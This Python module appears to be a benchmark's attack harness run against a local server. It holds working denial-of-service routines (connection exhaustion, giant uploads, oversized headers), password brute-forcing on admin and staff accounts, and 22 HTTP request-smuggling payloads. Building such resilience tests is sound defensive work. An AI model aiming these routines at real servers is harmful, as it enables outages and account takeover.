"""Attacks a server from a process of its own until it is stopped: what strangers, or one worker, might do to a county.

``python -m bench.attack.attackers NAME PORT KEY``; only against a server of one's own.
"""

from __future__ import annotations

import itertools
import json
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from bench import county

READERS, CONNECTIONS, SIGN_INS_PER_S = 17, 2_000, 40
UPLOAD_BYTES = 900_000_000
TIMEOUT_S = 10
STRANGERS = tuple(f"127.0.1.{number}" for number in range(1, 251))
"""The addresses that an attack comes from: others than the officer's."""

_PIECE = b"x" * 65_536
_LAST = "Connection: close\r\n"
_POST = f"POST / HTTP/1.1\r\nHost: a\r\n{_LAST}"
_GET = f"GET /healthz HTTP/1.1\r\nHost: a\r\n{_LAST}"

FRAMING_TRICKS = tuple(
    each.encode("latin-1")
    for each in (
        f"{_POST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{_GET}\r\n",
        f"{_POST}Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
        f"{_POST}Content-Length: 5, 5\r\n\r\nabcde",
        f"{_POST}Content-Length: +5\r\n\r\nabcde",
        f"{_POST}Content-Length: -5\r\n\r\nabcde",
        f"{_POST}Content-Length: 0x5\r\n\r\nabcde",
        f"{_POST}Content-Length: 99999999999999999999999\r\n\r\nabcde",
        f"{_POST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding: chunked\r\n\r\n-1\r\nabc\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding: chunked\r\n\r\n3 \r\nabcd\r\n0\r\n\r\n",
        f"{_POST}Transfer-Encoding: chunked\r\n\r\n3\nabc\n0\n\n",
        f"{_GET}X-Folded: a\r\n b\r\n\r\n",
        f"{_GET}X-Null: a\x00b\r\n\r\n",
        "GET /healthz HTTP/1.1\nHost: a\nConnection: close\n\n",
        f"GET http://b/healthz HTTP/1.1\r\nHost: a\r\n{_LAST}\r\n",
        f"{_GET}Host: b\r\n\r\n",
        f"GET /healthz HTTP/1.1\r\n{_LAST}\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    )
)
"""Twenty-two requests whose ends, or whose host, a proxy and a server might see in different places."""


def silent_readers(port: int, key: str) -> None:
    """Ask for long lists on many connections, and read nothing of them."""
    path = f"/api/v1/records.csv?type={county.TYPE}"
    asked = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Key {key}\r\n\r\n".encode()
    held = [_connect(port) for _ in range(READERS)]
    for each in held:
        each.sendall(asked * 20)
    threading.Event().wait()


def upload_to_nowhere(port: int, _key: str) -> None:
    """Send hundreds of megabytes to an address that does not exist, again and again."""
    head = f"POST /nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {UPLOAD_BYTES}\r\n\r\n".encode()
    while True:
        with suppress(OSError), _connect(port) as connection:
            connection.sendall(head)
            for _ in range(UPLOAD_BYTES // len(_PIECE)):
                connection.sendall(_PIECE)


def wrong_sign_ins(port: int, _key: str) -> None:
    """Sign in with wrong passwords under many names, forty times a second, whether they are answered or not."""
    number = 0
    while True:
        stranger = STRANGERS[number % len(STRANGERS)]
        threading.Thread(target=_sign_in, args=(port, f"gw{number % 500}", stranger), daemon=True).start()
        number += 1
        time.sleep(1 / SIGN_INS_PER_S)


def wrong_passwords_for_everyone(port: int, _key: str) -> None:
    """Try five wrong passwords on everybody's account, from one address after the other."""
    for stranger in itertools.cycle(STRANGERS):
        for name in (county.OFFICER, county.WORKER, "admin"):
            for _ in range(5):
                _sign_in(port, name, stranger)


def idle_connections(port: int, _key: str) -> None:
    """Hold two thousand connections: silent, with half a head, or with half a body; open anew what is cut off."""
    begun = (b"", b"GET / HT", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n" + b"x" * 30_000)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            connection = _connect(port)
            held.append(connection)
            connection.sendall(begun[len(held) % len(begun)])
        if len(held) > CONNECTIONS:
            held.pop(0).close()
            time.sleep(0.005)


def large_heads(port: int, _key: str) -> None:
    """Send half heads of nearly the largest size on many connections."""
    line = b"X-More: " + b"y" * 60_000 + b"\r\n"
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            held.append(_connect(port))
            held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a\r\n" + line * 15)
        if len(held) > 500:
            held.pop(0).close()


def framing_tricks(port: int, _key: str) -> None:
    """Send every trick in turn."""
    while True:
        for trick in FRAMING_TRICKS:
            said(port, trick)


def nothing(_port: int, _key: str) -> None:
    """Leave the server alone, for attacks that are in its surroundings."""
    threading.Event().wait()


ATTACKS: dict[str, Callable[[int, str], None]] = {
    each.__name__: each
    for each in (
        nothing,
        silent_readers,
        upload_to_nowhere,
        wrong_sign_ins,
        wrong_passwords_for_everyone,
        idle_connections,
        large_heads,
        framing_tricks,
    )
}


def said(port: int, request: bytes, address: str = STRANGERS[0]) -> bytes:
    """Return all that a server answers to a request that is sent as it is from ``address``; empty for nothing."""
    answer = b""
    with suppress(OSError), _connect(port, address) as connection:
        connection.sendall(request)
        while piece := connection.recv(65_536):
            answer += piece
    return answer


def _sign_in(port: int, name: str, address: str) -> None:
    body = json.dumps({"username": name, "password": "wrong-horse-7"}).encode()
    head = "POST /api/v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n"
    said(port, f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body, address)


def _connect(port: int, address: str = STRANGERS[0]) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), TIMEOUT_S, source_address=(address, 0))


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3])
